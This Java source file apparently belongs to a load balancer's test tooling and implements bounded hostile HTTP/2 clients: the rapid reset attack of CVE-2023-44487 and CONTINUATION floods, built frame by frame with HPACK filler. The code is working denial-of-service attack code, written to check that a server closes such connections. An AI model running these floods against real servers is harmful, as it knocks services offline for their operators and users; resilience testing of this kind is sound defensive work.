package io.canarybalancer.balancer;

import io.netty.handler.codec.http2.Http2Headers;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;

/**
 * Bounded hostile HTTP/2 clients, written frame by frame on a {@link RawH2} connection: the rapid reset
 * of CVE-2023-44487 and the CONTINUATION floods of 2024. Each sends at most the frames it is asked for and
 * stops when the server closes the connection or the time bound runs out; the result says which.
 */
public final class Http2Attacks {
    /** Requests of a rapid reset attack. */
    public static final int RAPID_RESETS = 5_000;
    /** Large CONTINUATION frames of a flood: 160 MB in all, far beyond any header list limit. */
    public static final int LARGE_CONTINUATIONS = 10_000;
    public static final int LARGE_CONTINUATION_SIZE = 16_000;
    /**
     * Empty CONTINUATION frames of a flood: 9 MB, more than loopback socket buffers hold, so a client whose
     * connection was closed early sees its writes fail before it has sent them all.
     */
    public static final int EMPTY_CONTINUATIONS = 1_000_000;
    /** Request pairs (HEADERS, RST_STREAM) written per socket write. */
    private static final int PAIRS_PER_WRITE = 50;
    /** CONTINUATION frames written per socket write. */
    private static final int FRAMES_PER_WRITE = 100;

    private Http2Attacks() {
    }

    /**
     * Opens {@code requests} streams, each a complete GET of {@code path} at once followed by its
     * RST_STREAM (CANCEL): requests that cost the server work and the client nothing. They go in
     * chunks of {@value #PAIRS_PER_WRITE}, each ended by a PING whose answer the next one waits for.
     */
    public static RawH2.Flood rapidReset(RawH2 client, String path, int requests, Duration bound) {
        int[] sent = {0, 0, 0}; // handed out, surely written (all before this call), chunks
        RawH2.Flood flood = client.flood(() -> {
            sent[1] = sent[0];
            if (sent[0] >= requests || !pingAnswered(client, sent[2])) {
                return null;
            }
            sent[2]++;
            ByteArrayOutputStream chunk = new ByteArrayOutputStream();
            for (int i = 0; i < PAIRS_PER_WRITE && sent[0] < requests; i++, sent[0]++) {
                int id = client.nextStreamId();
                Http2Headers headers = client.requestHeaders("GET", path);
                chunk.writeBytes(RawH2.frame(RawH2.HEADERS, RawH2.END_HEADERS | RawH2.END_STREAM, id,
                        client.headerBlock(id, headers)));
                chunk.writeBytes(RawH2.rstStream(id, RawH2.CANCEL));
            }
            chunk.writeBytes(RawH2.ping());
            return chunk.toByteArray();
        }, bound);
        return flood.counting(sent[1]);
    }

    /**
     * Waits for the PING that ended the previous chunk to be answered: the attack runs at the pace of
     * the round trip, so the server has read nearly all of it when it closes the connection, closes
     * cleanly and its GOAWAY can be read (a close with unread bytes would reset the connection).
     */
    private static boolean pingAnswered(RawH2 client, long pings) {
        try {
            return client.awaitPingAcks(pings, Duration.ofSeconds(5));
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return false;
        }
    }

    /**
     * Starts a header block on a new stream (a HEADERS frame without END_HEADERS, carrying a valid GET's
     * pseudo-headers) and then never ends it: {@code frames} CONTINUATION frames of {@code frameSize}
     * bytes each (filler headers {@code x-pad: aaa...}, valid HPACK; 0 for empty frames), none with
     * END_HEADERS.
     */
    public static RawH2.Flood continuationFlood(RawH2 client, String path, int frames, int frameSize, Duration bound) {
        int id = client.nextStreamId();
        byte[] start = RawH2.frame(RawH2.HEADERS, RawH2.END_STREAM, id,
                client.headerBlock(id, client.requestHeaders("GET", path)));
        byte[] continuation = RawH2.frame(RawH2.CONTINUATION, 0, id, filler(frameSize));
        int[] sent = {-1, 0}; // handed out (-1: not even the HEADERS), surely written (all before this call)
        RawH2.Flood flood = client.flood(() -> {
            sent[1] = Math.max(0, sent[0]);
            if (sent[0] < 0) {
                sent[0] = 0;
                return start;
            }
            if (sent[0] >= frames) {
                return null;
            }
            int n = Math.min(FRAMES_PER_WRITE, frames - sent[0]);
            sent[0] += n;
            ByteArrayOutputStream chunk = new ByteArrayOutputStream(n * continuation.length);
            for (int i = 0; i < n; i++) {
                chunk.writeBytes(continuation);
            }
            return chunk.toByteArray();
        }, bound);
        return flood.counting(sent[1]);
    }

    /** {@code size} bytes of whole HPACK literal fields (without indexing, new name) {@code x-pad: a...}. */
    static byte[] filler(int size) {
        ByteArrayOutputStream block = new ByteArrayOutputStream(size);
        byte[] name = "x-pad".getBytes(StandardCharsets.US_ASCII);
        while (size - block.size() >= 1 + 1 + name.length + 1 + 1) {
            int valueLength = Math.min(100, size - block.size() - (1 + 1 + name.length + 1));
            block.write(0x00);
            block.write(name.length);
            block.writeBytes(name);
            block.write(valueLength); // < 127: a one-byte length, no Huffman
            byte[] value = new byte[valueLength];
            Arrays.fill(value, (byte) 'a');
            block.writeBytes(value);
        }
        return block.toByteArray();
    }
}
